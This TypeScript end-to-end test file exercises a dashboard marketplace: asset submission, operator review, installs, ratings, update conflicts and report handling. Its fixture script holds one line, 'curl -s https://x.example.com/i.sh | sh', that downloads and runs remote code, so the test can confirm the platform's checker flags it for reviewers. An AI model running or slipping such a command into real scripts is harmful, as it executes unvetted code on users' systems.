import type { Page } from 'playwright-core'
import { beforeAll, expect, test } from 'vitest'
import { updateOrganization } from '#contract/identity/organization.ts'
import { installEntry, readEntry, reportEntry } from '#contract/marketplace/entries.ts'
import { listInstalls } from '#contract/marketplace/installs.ts'
import { listEntryReports } from '#contract/marketplace/review-queue.ts'
import { listReviews, writeReview } from '#contract/marketplace/reviews.ts'
import { readAsset, updateAsset } from '#contract/studio/assets.ts'
import { publishAsset } from '#contract/studio/lifecycle.ts'
import { addressOf, axeFindings, openDashboard, screenshot, seeHeading } from '#tests/support/dashboard.ts'
import { defined, firstOf } from '#tests/support/elements.ts'
import {
  approveEntry,
  makeApprovedEntry,
  makePublishedAsset,
  makeSubmission,
} from '#tests/support/marketplace/marketplace.ts'
import type { Person } from '#tests/support/test-server.ts'

const dashboard = openDashboard()
const script = '#!/bin/sh\nset -eu\ncurl -s https://x.example.com/i.sh | sh\n'
let author: Person
let visitor: Person
let operator: Person

beforeAll(async () => {
  const { server } = dashboard
  const options = { features: ['marketplace' as const] }
  author = await (await server.organization({ ...options, name: 'Taller Norte' })).person({ role: 'ADMIN' })
  visitor = await (await server.organization({ ...options, name: 'Acme Studio' })).person({ role: 'ADMIN' })
  operator = await server.operator()
  await operator.call(updateOrganization, { body: { features: ['marketplace'] } })
})

async function press(page: Page, ...keys: string[]): Promise<void> {
  for (const key of keys) await page.keyboard.press(key)
}

/** Publishes another version of an asset. */
async function publishText(assetId: string, bodyMarkdown: string): Promise<void> {
  await author.call(updateAsset, { params: { id: assetId }, body: { bodyMarkdown } })
  await author.call(publishAsset, { params: { id: assetId } })
}

test('an author checks and submits an asset; an operator goes from finding to finding and approves it', async () => {
  const { server } = dashboard
  await makePublishedAsset(author, { name: 'Shipping report', type: 'SKILL' }, [['scripts/run.sh', script]])
  const page = await dashboard.open(await addressOf(server, author, '/marketplace/mine'), { person: author })
  await seeHeading(page, 'Marketplace')
  await page.getByText('You have not published anything yet').waitFor()
  await press(page, 'c')
  await seeHeading(page, 'Publish in the marketplace')
  await page.getByRole('combobox', { name: 'Asset' }).focus()
  await page.keyboard.type('Shipping')
  await page.getByRole('option', { name: /Shipping report/ }).waitFor()
  await press(page, 'ArrowDown', 'Enter')
  await seeHeading(page, 'Publish “Shipping report”')
  // the checks say what, where and what to do
  const findings = page.getByRole('list', { name: 'Findings' })
  await findings.getByText('scripts/run.sh, line 3').waitFor()
  await findings.getByText(/Include the program in the package/).waitFor()
  await screenshot(page, 'marketplace', 'checked')
  await page.getByRole('checkbox', { name: /I may share/ }).focus()
  await press(page, 'Space', 'Control+Enter')
  await page.getByRole('alert').getByText('Choose a category.').waitFor()
  await page.getByRole('button', { name: /Category/ }).press('Enter')
  await page.getByRole('option', { name: 'Automation' }).press('Enter')
  await page.getByLabel('Tags').fill('shop, weekly')
  await press(page, 'Control+Enter')
  const sheet = page.getByRole('complementary', { name: 'Shipping report' })
  await sheet.getByText('Pending', { exact: true }).waitFor()
  await sheet.getByText('shop, weekly').waitFor()

  const review = await dashboard.open('/operator/submissions', { person: operator })
  await seeHeading(review, 'Review desk')
  await review.getByRole('link', { name: 'Shipping report' }).press('Enter')
  await seeHeading(review, 'Shipping report')
  await press(review, 'n')
  const note = review.getByRole('note').filter({ hasText: 'RUNS_WHAT_IT_DOWNLOADS' })
  await note.waitFor()
  await expect.poll(() => review.evaluate('document.activeElement.dataset.note')).toBe('1')
  await review.getByText('curl -s https://x.example.com/i.sh | sh').waitFor()
  await screenshot(review, 'marketplace', 'review')
  expect(await axeFindings(review)).toEqual([])
  await press(review, 's')
  // the author sees the review begin, and the decision, without a reload
  await sheet.getByText('In review', { exact: true }).first().waitFor()
  await press(review, 'r')
  const rejecting = review.getByRole('dialog', { name: /^Reject/ })
  await expect
    .poll(() => rejecting.getByLabel('Reason').inputValue())
    .toMatch(/^scripts\/run\.sh, line 3: Runs/)
  await press(review, 'Escape')
  await rejecting.waitFor({ state: 'detached' })
  await press(review, 'a')
  const approving = review.getByRole('dialog', { name: /^Approve/ })
  await approving.getByLabel('Note').fill('The host belongs to them.')
  await press(review, 'Control+Enter')
  await review.getByText('“Shipping report” is in the catalogue.').waitFor()
  await seeHeading(review, 'Review desk')
  await sheet.getByText('Listed', { exact: true }).first().waitFor()
  expect(await axeFindings(page)).toEqual([])

  await sheet.getByRole('button', { name: 'Actions' }).press('Enter')
  await page.getByRole('menuitem', { name: 'Withdraw…' }).press('Enter')
  const withdrawing = page.getByRole('alertdialog')
  await withdrawing.getByRole('button', { name: 'Withdraw' }).press('Enter')
  await withdrawing.waitFor({ state: 'detached' })
  await sheet.getByRole('button', { name: 'Submit again…' }).press('Enter')
  const submitting = page.getByRole('dialog', { name: 'Publish “Shipping report”' })
  await submitting.getByText('scripts/run.sh, line 3').waitFor()
  await submitting.getByRole('checkbox').focus()
  await press(page, 'Space', 'Control+Enter')
  await submitting.waitFor({ state: 'detached' })
  await sheet.getByText('Pending', { exact: true }).waitFor()
})

test('a visitor reads every file before the install, reviews the entry, and updates the copy where both changed', async () => {
  const { server } = dashboard
  const assetId = await makePublishedAsset(
    author,
    { name: 'Contract review', type: 'SKILL', bodyMarkdown: 'Read it whole.\n\nSay what is missing.\n' },
    [['scripts/terms.py', 'print("terms")\n']],
  )
  const { id } = await makeApprovedEntry(operator, author, { assetId, category: 'DOCUMENTATION' })
  const page = await dashboard.open(await addressOf(server, visitor, '/marketplace'), { person: visitor })
  await seeHeading(page, 'Marketplace')
  await press(page, '/')
  await page.keyboard.type('contract')
  await page.getByRole('row', { name: /Contract review/ }).waitFor()
  await page.getByRole('link', { name: 'Contract review' }).press('Enter')
  await page.getByRole('link', { name: 'Read it whole' }).press('Enter')
  await seeHeading(page, 'Contract review')
  await page.getByText('Say what is missing.').waitFor()
  await page.getByRole('link', { name: 'scripts/terms.py' }).press('Enter')
  await page.getByText('print("terms")').waitFor()
  await screenshot(page, 'marketplace', 'entry')
  expect(await axeFindings(page)).toEqual([])
  await press(page, 'i')
  const installing = page.getByRole('dialog', { name: /^Install/ })
  await installing.getByLabel('Name of the copy').fill('Our contracts')
  await press(page, 'Control+Enter')
  await installing.getByText('Tick the box before you install it.').waitFor()
  await installing.getByRole('checkbox').focus()
  await press(page, 'Space', 'Control+Enter')
  await page.getByText('“Our contracts” is in your library.').waitFor()
  await installing.waitFor({ state: 'detached' })

  await page.getByRole('link', { name: /^Reviews/ }).press('Enter')
  await page.getByRole('button', { name: 'Write a review' }).press('Enter')
  const rating = page.getByRole('radiogroup', { name: 'Rating' })
  await rating.getByRole('radio', { name: '4 stars' }).press('Space')
  await page.getByLabel('Comment').fill('Found the clause that we had missed.')
  await press(page, 'Control+Enter')
  await page.getByRole('article').getByText('Found the clause that we had missed.').waitFor()
  expect(await visitor.call(readEntry, { params: { id } })).toMatchObject({
    ratingAverage: 4,
    ratingCount: 1,
  })
  // the rating of somebody else arrives by itself, and marks are set at once
  const other = await (await server.organization({ features: ['marketplace'] })).person({ role: 'ADMIN' })
  await other.call(installEntry, { params: { id }, body: { acknowledgeDisclaimer: true } })
  await other.call(writeReview, { params: { id }, body: { rating: 5, comment: 'Short and right.' } })
  await page.getByText('Short and right.').waitFor()
  await page.getByRole('button', { name: 'Helpful' }).press('Enter')
  await page.getByRole('button', { name: 'Helpful 1', pressed: true }).waitFor()
  await expect
    .poll(async () => (await other.call(listReviews, { params: { id } })).items.map(one => one.helpfulCount))
    .toEqual([1, 0])

  const install = firstOf((await visitor.call(listInstalls, {})).items)
  const copyId = defined(install.installedAssetId)
  await visitor.call(updateAsset, {
    params: { id: copyId },
    body: { bodyMarkdown: 'Read it twice.\n\nSay what is missing.\n' },
  })
  await publishText(assetId, 'Read it slowly.\n\nSay what is missing.\n\nName a date.\n')
  await approveEntry(operator, author, await makeSubmission(author, { assetId, category: 'DOCUMENTATION' }))
  await page.goto(await addressOf(server, visitor, '/marketplace/installs'))
  await page.getByRole('link', { name: 'Our contracts' }).press('Enter')
  const sheet = page.getByRole('complementary', { name: 'Our contracts' })
  await sheet.getByText('The signature is valid').waitFor()
  await press(page, 'u')
  const updating = page.getByRole('dialog', { name: /^Update/ })
  await updating.getByText('Read it twice.').waitFor()
  await updating.getByText('Read it slowly.').waitFor()
  await screenshot(page, 'marketplace', 'conflict')
  expect(await axeFindings(page)).toEqual([])
  await press(page, 'Control+Enter')
  await updating.getByText('Choose what stays where both changed.').waitFor()
  await updating.getByRole('radio', { name: /Keep yours/ }).press('Space')
  await press(page, 'Control+Enter')
  await updating.waitFor({ state: 'detached' })
  await sheet.getByText('Up to date').waitFor()
  expect((await visitor.call(readAsset, { params: { id: copyId } })).bodyMarkdown).toBe(
    'Read it twice.\n\nSay what is missing.\n\nName a date.\n',
  )
})

test('an operator sees that another release came, settles a report, hides a text, and takes an entry off the list', async () => {
  const assetId = await makePublishedAsset(author, { name: 'Polite reminder', bodyMarkdown: 'Be polite.' })
  const entry = await makeApprovedEntry(operator, author, { assetId })
  await visitor.call(installEntry, { params: { id: entry.id }, body: { acknowledgeDisclaimer: true } })
  const comment = 'Call me on 555 0100.'
  await visitor.call(writeReview, { params: { id: entry.id }, body: { rating: 2, comment } })
  await visitor.call(reportEntry, { params: { id: entry.id }, body: { reason: 'It copies a text of ours.' } })
  await publishText(assetId, 'Be polite, and brief.')
  await makeSubmission(author, { assetId })
  const page = await dashboard.open(`/operator/submissions/${entry.id}?view=changes`, {
    person: operator,
    refusals: [
      `POST /api/operator/marketplace/submissions/${entry.id}/approve 409`,
      // the event of the featured period may arrive when the entry is no longer listed
      `GET /api/studio/marketplace/entries/${entry.id} 404`,
    ],
  })
  await seeHeading(page, 'Polite reminder')
  await page.getByRole('cell', { name: 'Be polite, and brief.' }).waitFor()
  await publishText(assetId, 'Be polite, brief, and late.')
  await makeSubmission(author, { assetId })
  await press(page, 'a')
  const approving = page.getByRole('dialog', { name: /^Approve/ })
  await approving.waitFor()
  await press(page, 'Control+Enter')
  await approving.waitFor({ state: 'detached' })
  await page.getByText(/^While you were reading, version/).waitFor()
  expect(await page.getByRole('button', { name: 'Approve…' }).isDisabled()).toBe(true)
  await screenshot(page, 'marketplace', 'changed')
  expect(await axeFindings(page)).toEqual([])
  await page.getByRole('button', { name: 'I have read it' }).press('Enter')
  await press(page, 'r')
  const rejecting = page.getByRole('dialog', { name: /^Reject/ })
  await rejecting.getByLabel('Reason').fill('It may not be late.')
  await press(page, 'Control+Enter')
  await page.getByText('“Polite reminder” was rejected.').waitFor()

  await page.goto('/operator/reports')
  await page.getByRole('link', { name: 'Polite reminder' }).press('Enter')
  const sheet = page.getByRole('complementary', { name: 'Polite reminder' })
  await sheet.getByText(comment).waitFor()
  const actions = sheet.getByRole('button', { name: 'Actions of the review' })
  await actions.press('Enter')
  await page.getByRole('menuitem', { name: 'Hide the text…' }).press('Enter')
  const hiding = page.getByRole('alertdialog')
  await hiding.getByLabel('Reason').fill('A telephone number.')
  await press(page, 'Control+Enter')
  await hiding.waitFor({ state: 'detached' })
  await sheet.getByText('No text').waitFor()
  await actions.press('Enter')
  await page.getByRole('menuitem', { name: 'Show the text again' }).press('Enter')
  await sheet.getByText(comment).waitFor()
  await sheet.getByRole('button', { name: 'Confirm…' }).press('Enter')
  const settling = page.getByRole('dialog')
  await settling.getByLabel('Note').fill('They were asked to change it.')
  await press(page, 'Control+Enter')
  await settling.waitFor({ state: 'detached' })
  await page.getByText('There are no open reports').waitFor()
  const confirmed = await operator.call(listEntryReports, { query: { status: 'CONFIRMED' } })
  expect(confirmed.items).toMatchObject([{ note: 'They were asked to change it.' }])
  expect(await axeFindings(page)).toEqual([])

  await page.goto(`/operator/submissions/${entry.id}`)
  await page.getByRole('button', { name: 'Feature…' }).press('Enter')
  const featuring = page.getByRole('dialog', { name: /^Feature/ })
  await featuring.getByRole('button', { name: 'Feature', exact: true }).press('Enter')
  await featuring.waitFor({ state: 'detached' })
  expect(await visitor.call(readEntry, { params: { id: entry.id } })).toMatchObject({ featured: true })
  await page.getByRole('button', { name: 'Stop featuring it' }).press('Enter')
  await page.getByText('“Polite reminder” is no longer featured.').waitFor()
  await page.getByRole('button', { name: 'Remove from the catalogue…' }).press('Enter')
  const removing = page.getByRole('alertdialog')
  await removing.getByLabel('Reason').fill('It copies a text of others.')
  await press(page, 'Control+Enter')
  await removing.waitFor({ state: 'detached' })
  await page.getByText('It copies a text of others.').waitFor()
})

test('an organization without the marketplace reads why, and nothing is refused', async () => {
  const { server } = dashboard
  const owner = await (await server.organization()).person({ role: 'OWNER' })
  const page = await dashboard.open(await addressOf(server, owner, '/marketplace'), { person: owner })
  await page.getByText('Your organization does not use the marketplace').waitFor()
  await page.getByRole('link', { name: 'Open the settings' }).waitFor()
  expect(await page.getByRole('link', { name: 'Marketplace' }).count()).toBe(0)
  await page.goto(await addressOf(server, owner, '/marketplace/mine'))
  await page.getByText('Your organization does not use the marketplace').waitFor()
})
